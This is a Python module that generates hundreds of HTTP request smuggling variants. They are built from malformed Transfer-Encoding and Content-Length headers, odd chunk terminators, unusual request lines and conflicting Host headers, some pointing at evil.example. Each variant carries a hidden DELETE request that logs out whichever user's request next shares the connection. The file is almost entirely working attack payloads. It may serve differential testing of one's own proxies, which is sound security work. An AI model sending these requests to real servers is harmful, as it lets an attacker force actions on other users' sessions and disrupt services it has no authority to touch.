"""Requests whose end two readers may see in different places.

Each ends with the beginning of another request that logs its sender out. Whoever is served next on
the same connection to the server would send it, were the end seen in the wrong place.
"""
import itertools

from fronts import NAME

HIDDEN = b"DELETE /api/v1/session HTTP/1.1\r\nHost: " + NAME.encode() + b"\r\nX-Rest: "
PATH = "/api/v1/session"

TRANSFER = [
    "Transfer-Encoding: chunked", "Transfer-Encoding:chunked", "Transfer-Encoding:  chunked",
    "Transfer-Encoding:\tchunked", "Transfer-Encoding : chunked", "Transfer-Encoding\t: chunked",
    "Transfer-Encoding:\x0bchunked", "Transfer-Encoding:\x0cchunked", "Transfer-Encoding:\x00chunked",
    "Transfer-Encoding: chunked\x00", "Transfer-Encoding: chunked\x0b", "Transfer-Encoding: chunked\t",
    "Transfer-Encoding: xchunked", "Transfer-Encoding: chunkedx", "Transfer-Encoding: chunk",
    "Transfer-Encoding: CHUNKED", "transfer-encoding: Chunked", "TRANSFER-ENCODING: chunked",
    "Transfer-Encoding: identity", "Transfer-Encoding: chunked, identity",
    "Transfer-Encoding: identity, chunked", "Transfer-Encoding: chunked, chunked",
    "Transfer-Encoding: gzip, chunked", "Transfer-Encoding: chunked, gzip",
    "Transfer-Encoding: chunked;q=1", "Transfer-Encoding: \"chunked\"",
    "Transfer-Encoding: 'chunked'", "Transfer-Encoding: ,chunked", "Transfer-Encoding: chunked,",
    "Transfer-Encoding:", "Transfer_Encoding: chunked", "Transfer Encoding: chunked",
    "Transfer-Encoding: chunked\r\nTransfer-Encoding: identity",
    "Transfer-Encoding: identity\r\nTransfer-Encoding: chunked",
    "Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked",
    "Transfer-Encoding: chunked\r\nTransfer-Encoding: x", "Transfer-Encoding:\r\n chunked",
    "Transfer-Encoding: chu\r\n nked", "X: y\nTransfer-Encoding: chunked",
    "X: y\rTransfer-Encoding: chunked", "X: y\r\n\rTransfer-Encoding: chunked",
    " Transfer-Encoding: chunked", "\x00Transfer-Encoding: chunked", "Transfer-Encoding\xa0: chunked",
    "Transfer-Encoding: \xa0chunked", "Transfer-\x00Encoding: chunked",
    "Connection: Transfer-Encoding\r\nTransfer-Encoding: chunked",
    "Connection: Content-Length\r\nTransfer-Encoding: chunked",
    "TE: chunked\r\nTransfer-Encoding: chunked", "Trailer: Content-Length\r\nTransfer-Encoding: chunked"]

# {n} is the true length.
LENGTHS = [
    "Content-Length: 0\r\nContent-Length: {n}", "Content-Length: {n}\r\nContent-Length: 0",
    "Content-Length: {n}\r\nContent-Length: {n}", "Content-Length: 0, {n}", "Content-Length: {n}, 0",
    "Content-Length: {n}, {n}", "Content-Length: +{n}", "Content-Length: -{n}", "Content-Length: -0",
    "Content-Length: 0{n}", "Content-Length: 0x{n}", "Content-Length: {n} 0", "Content-Length: {n}\t",
    "Content-Length:\x0b{n}", "Content-Length: {n}\x00", "Content-Length: {n}\x0b", "Content-Length: 1e1",
    "Content-Length: {n}.0", "Content-Length: {n};", "Content-Length: \"{n}\"", "Content-Length:",
    "Content-Length : {n}", "Content-Length\t: {n}", " Content-Length: {n}", "Content_Length: {n}",
    "Content-Length:\r\n {n}", "X: y\nContent-Length: {n}", "X: y\rContent-Length: {n}",
    "Content-Length: 0\nContent-Length: {n}", "Content-Length: 18446744073709551616",
    "Content-Length: 18446744073709551615", "Content-Length: 4294967296", "Content-Length: \u0665",
    "Content-Length: \uff15", "Content-Length: {n}\r\nConnection: Content-Length",
    "Content-Length: 0\r\nX-Content-Length: {n}", "Expect: 100-continue\r\nContent-Length: {n}",
    "Expect: 100-continue\r\nContent-Length: 0\r\nContent-Length: {n}",
    "Expect: x 100-continue\r\nContent-Length: {n}"]

# What comes after the head of a body in pieces; what it hides stands behind it.
CHUNKS = [
    b"0\r\n\r\n", b"0\n\r\n", b"0\r\n\n", b"0\n\n", b"0\r\r\n\r\n", b"00\r\n\r\n", b"0x0\r\n\r\n",
    b"-0\r\n\r\n", b"+0\r\n\r\n", b" 0\r\n\r\n", b"0 \r\n\r\n", b"0\t\r\n\r\n", b"0;x\r\n\r\n",
    b"0;x=\"\r\n\r\n\"\r\n\r\n", b"0;x\n\r\n\r\n", b"0\x00\r\n\r\n", b"\r\n0\r\n\r\n", b"0,0\r\n\r\n",
    b"2\r\n{}\r\n0\r\n\r\n", b"2\r\n{}0\r\n\r\n", b"2\r\n{}\n0\r\n\r\n", b"2\n{}\r\n0\r\n\r\n",
    b"2\r\n{}x\r\n0\r\n\r\n", b"2;\n{}\r\n0\r\n\r\n", b"2;x=\r\n{}\r\n0\r\n\r\n",
    b"0x2\r\n{}\r\n0\r\n\r\n", b"2 \r\n{}\r\n0\r\n\r\n", b"2 2\r\n{}\r\n0\r\n\r\n",
    b"\x00\x32\r\n{}\r\n0\r\n\r\n", b"ffffffffffffffff\r\n{}\r\n0\r\n\r\n",
    b"10000000000000002\r\n{}\r\n0\r\n\r\n", b"100000002\r\n{}\r\n0\r\n\r\n", b"-2\r\n{}\r\n0\r\n\r\n",
    b"2\r\n{}\r\n0\r\nContent-Length: 5\r\n\r\n", b"2\r\n{}\r\n0\r\nTransfer-Encoding: chunked\r\n\r\n",
    b"2\r\n{}\r\n0\r\nHost: evil.example\r\n\r\n", b"2\r\n{}\r\n0\r\n X: y\r\n\r\n",
    b"2\r\n{}\r\n0\r\nX y\r\n\r\n", b"2\r\n{}\r\n0\r\nX: y\n\r\n", b"2\r\n{}\r\n0\r\nX: y\r\r\n\r\n",
    b"2\r\n{}\r\n0\r\nX-Forwarded-For: 10.9.8.7\r\n\r\n", b"g\r\n{}\r\n0\r\n\r\n", b"\r\n\r\n",
    b"2\r\n{}\r\n", b"2\r\n{"]

FIRST_LINES = [
    "POST {p}  HTTP/1.1", "POST  {p} HTTP/1.1", "POST\t{p}\tHTTP/1.1", "POST {p} HTTP/1.0",
    "POST {p} HTTP/0.9", "POST {p} HTTP/2.0", "POST {p} HTTP/1.2", "POST {p} HTTP/1.10",
    "POST {p} http/1.1", "POST {p}", "POST {p} HTTP/1.1 HTTP/1.1", " POST {p} HTTP/1.1",
    "\r\nPOST {p} HTTP/1.1", "\nPOST {p} HTTP/1.1", "GET {p} HTTP/1.1", "HEAD {p} HTTP/1.1",
    "OPTIONS * HTTP/1.1", "OPTIONS {p} HTTP/1.1", "TRACE {p} HTTP/1.1", "CONNECT evil.example:80 HTTP/1.1",
    "POST http://{h}{p} HTTP/1.1", "POST http://evil.example{p} HTTP/1.1", "POST //evil.example{p} HTTP/1.1",
    "POST {p}?a b HTTP/1.1", "POST {p}\x00 HTTP/1.1", "POST {p}%0d%0aX:y HTTP/1.1", "POST {p}#x HTTP/1.1",
    "POST {p}\\x HTTP/1.1", "post {p} HTTP/1.1", "PO\x00ST {p} HTTP/1.1", "POST {p};x HTTP/1.1",
    "POST ../{p} HTTP/1.1"]

OTHERS = [
    "Host: {h}\r\nHost: evil.example", "Host: evil.example\r\nHost: {h}", "Host: {h}, evil.example",
    "Host: {h}@evil.example", "Host: evil.example@{h}", "Host: {h}:80@x", "Host : {h}", "Host:", "X: y",
    "Host: {h}\x00", "Host: {h} x", "Host: {h}\r\nX : y", "Host: {h}\r\nX", "Host: {h}\r\n: y",
    "Host: {h}\r\nX: y\x00z", "Host: {h}\r\nX: y\rz", "Host: {h}\r\nX\ny: z", "Host: {h}\r\n\ty: z",
    "Host: {h}\r\nConnection: Host", "Host: {h}\r\nConnection: Cookie, Content-Length",
    "Host: {h}\r\nUpgrade: websocket\r\nConnection: Upgrade",
    "Host: {h}\r\nUpgrade: h2c\r\nConnection: Upgrade, HTTP2-Settings\r\nHTTP2-Settings: AAMAAABkAAQAAP__",
    "Host: {h}\r\nConnection: close, keep-alive", "Host: {h}\r\nProxy-Connection: keep-alive",
    "Host: {h}\r\nKeep-Alive: timeout=1", "Host: {h}\r\nX-Forwarded-For: 10.9.8.7\r\nX-Forwarded-For: 1"]


def of(first, headers, body):
    """The bytes; `headers` are lines without the last end of line."""
    head = f"{first}\r\n{headers}\r\n\r\n"
    is_bytes = max(map(ord, head)) < 256
    return head.encode("latin-1" if is_bytes else "utf-8") + body


def plain(*lines):
    return "\r\n".join((f"Host: {NAME}", "Content-Type: application/json", "Idempotency-Key: variant-1",
                        *lines))


def all_variants():
    """Yields a name and the bytes of each."""
    first = f"POST {PATH} HTTP/1.1"
    hidden = b"0\r\n\r\n" + HIDDEN
    for line, length in itertools.product(TRANSFER, (len(hidden), 4, None)):
        extra = () if length is None else (f"Content-Length: {length}",)
        yield f"{line!r} with {extra}", of(first, plain(line, *extra), hidden)
        if length is not None:
            yield f"{extra} with {line!r}", of(first, plain(*extra, line), hidden)
    for line in LENGTHS:
        yield repr(line), of(first, plain(line.format(n=len(HIDDEN))), HIDDEN)
        yield f"GET {line!r}", of("GET /healthz HTTP/1.1", plain(line.format(n=len(HIDDEN))), HIDDEN)
    for body in CHUNKS:
        yield repr(body), of(first, plain("Transfer-Encoding: chunked"), body + HIDDEN)
    for line, length in itertools.product(FIRST_LINES, (0, len(HIDDEN))):
        head = line.format(p=PATH, h=NAME)
        yield f"{line!r} of {length}", of(head, plain(f"Content-Length: {length}"), HIDDEN)
    for lines, length in itertools.product(OTHERS, (0, len(HIDDEN))):
        yield f"{lines!r} of {length}", of(
            first, f"{lines.format(h=NAME)}\r\nContent-Length: {length}", HIDDEN)
